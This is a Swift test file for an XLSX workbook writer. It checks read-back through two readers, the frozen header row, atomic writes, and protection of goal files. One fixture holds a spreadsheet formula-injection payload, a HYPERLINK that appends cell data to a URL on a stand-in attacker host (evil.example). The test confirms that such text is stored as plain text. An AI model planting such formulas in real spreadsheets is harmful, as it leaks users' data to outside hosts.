import Foundation
import Glibc
import KoersCore
@testable import KoersImport
import KoersRender
@testable import KoersWorkspace
import Testing

@Suite("xlsx files")
struct WorkbookFileTests {
    private let temporary: WorkbookFolder
    private var folder: String { temporary.path }

    init() throws {
        temporary = try WorkbookFolder()
    }

    private static let hostileTitle = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"

    private static let workbook = Workbook(sheets: [
        Workbook.Sheet(name: "Stand", headers: ["id", "titel", "waarde", "voortgang", "deadline"], rows: [
            [.text("meer-online"), .text("Meer volume online"), .number(49525.5), .percentage(0.82), .text("2024")],
            [.text("aanval"), .text(hostileTitle), .number(0.00004), .empty, .text("2024-Q4")],
            [.text("plus"), .text("+31 6 1234"), .number(-3), .percentage(1.5), .text("@SUM(A1)")],
        ]),
        Workbook.Sheet(name: "Cijfers", headers: ["reeks", "periode"], rows: [[.text("m"), .text("2021-01")]]),
    ])

    private func written() throws -> [UInt8] {
        let path = folder + "/stand.xlsx"
        try WorkbookFile.write(Self.workbook, to: path)
        return try #require(AtomicFile.read(path))
    }

    @Test("koers's own reader reads every sheet back: numbers as numbers, periods and text as text")
    func readBackByKoers() throws {
        let bytes = try written()
        let sheet = try XLSXReader.read(bytes, sheet: "Stand")
        let cells = sheet.rows.map { row in (0..<5).map { row.cells[$0] } }
        #expect(cells[0].map { $0?.text } == ["id", "titel", "waarde", "voortgang", "deadline"])
        #expect(cells[1][2]?.number == 49525.5)
        #expect(cells[1][3]?.number == 0.82)
        #expect(cells[1][4] == XLSXCell(text: "2024", number: nil))
        #expect(cells[2][1] == XLSXCell(text: Self.hostileTitle, number: nil))
        #expect(cells[2][2]?.number == 0.00004)
        #expect(cells[2][3] == nil)
        #expect(cells[3][1] == XLSXCell(text: "+31 6 1234", number: nil))
        #expect(cells[3][4] == XLSXCell(text: "@SUM(A1)", number: nil))
        #expect(try XLSXReader.read(bytes, sheet: "Cijfers").rows[1].cells[1] == XLSXCell(text: "2021-01", number: nil))
    }

    @Test("text that begins with = + - @ is a string cell, never a formula")
    func noFormulas() throws {
        let bytes = try written()
        let archive = try #require(ZipDirectory(bytes))
        let entry = try #require(archive.entries["xl/worksheets/sheet1.xml"])
        let xml = String(decoding: try #require(archive.contents(of: entry, limit: 1 << 20)), as: UTF8.self)
        #expect(!xml.contains("<f>") && !xml.contains("<f "))
        #expect(!xml.contains("HYPERLINK"), "the title is a shared string, not in the sheet")
    }

    @Test("the header row is frozen and the columns have widths")
    func frozenHeaderAndWidths() throws {
        let bytes = try written()
        let archive = try #require(ZipDirectory(bytes))
        let entry = try #require(archive.entries["xl/worksheets/sheet1.xml"])
        let xml = String(decoding: try #require(archive.contents(of: entry, limit: 1 << 20)), as: UTF8.self)
        #expect(xml.contains(#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#))
        #expect(xml.contains("<cols>"))
    }

    @Test("a second reader, openpyxl, sees the same typed cells",
          .enabled(if: hasOpenpyxl, "python3-openpyxl is not installed (scripts/setup installs it): the second reader was not tried"))
    func readBackByOpenpyxl() throws {
        let path = folder + "/stand.xlsx"
        try WorkbookFile.write(Self.workbook, to: path)
        let script = """
        import sys, openpyxl
        book = openpyxl.load_workbook(sys.argv[1])
        sheet = book["Stand"]
        print(book.sheetnames)
        print(sheet.freeze_panes)
        for row in sheet.iter_rows(min_row=2, values_only=True):
            print(repr(row))
        print(sheet["D2"].number_format)
        """
        let output = try Self.run("/usr/bin/python3", ["-c", script, path])
        #expect(output == """
        ['Stand', 'Cijfers']
        A2
        ('meer-online', 'Meer volume online', 49525.5, 0.82, '2024')
        ('aanval', '=HYPERLINK("http://evil.example/?"&A1,"klik")', 4e-05, None, '2024-Q4')
        ('plus', '+31 6 1234', -3, 1.5, '@SUM(A1)')
        0%

        """)
    }

    @Test("a failed write leaves the file that was there")
    func failedWriteKeepsTheOldFile() throws {
        let path = folder + "/stand.xlsx"
        _ = FileManager.default.createFile(atPath: path, contents: Data("oud".utf8))
        let tooLong = Workbook(sheets: [Workbook.Sheet(name: "t", headers: ["a"], rows: [[.text(String(repeating: "x", count: 40_000))]])])
        #expect(throws: WorkspaceError.self) { try WorkbookFile.write(tooLong, to: path) }
        #expect(FileManager.default.contents(atPath: path) == Data("oud".utf8))
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder) == ["stand.xlsx"])
    }

    @Test("a goal file is never overwritten")
    func sparesSourceFiles() throws {
        let goals = folder + "/doelen.koers"
        #expect(throws: WorkspaceError.wouldWriteGoalFileName(goals)) { try WorkbookFile.write(Self.workbook, to: goals) }
    }

    fileprivate static func run(_ executable: String, _ arguments: [String]) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: executable)
        process.arguments = arguments
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = FileHandle.nullDevice
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw CocoaError(.executableLoad) }
        return String(decoding: data, as: UTF8.self)
    }
}

private let hasOpenpyxl = (try? WorkbookFileTests.run("/usr/bin/python3", ["-c", "import openpyxl"])) != nil

/// A fresh folder for one test, removed with its files when the test ends.
private final class WorkbookFolder: Sendable {
    let path = NSTemporaryDirectory() + "koers-workbook-\(UUID().uuidString)"

    init() throws {
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
    }

    deinit { try? FileManager.default.removeItem(atPath: path) }
}
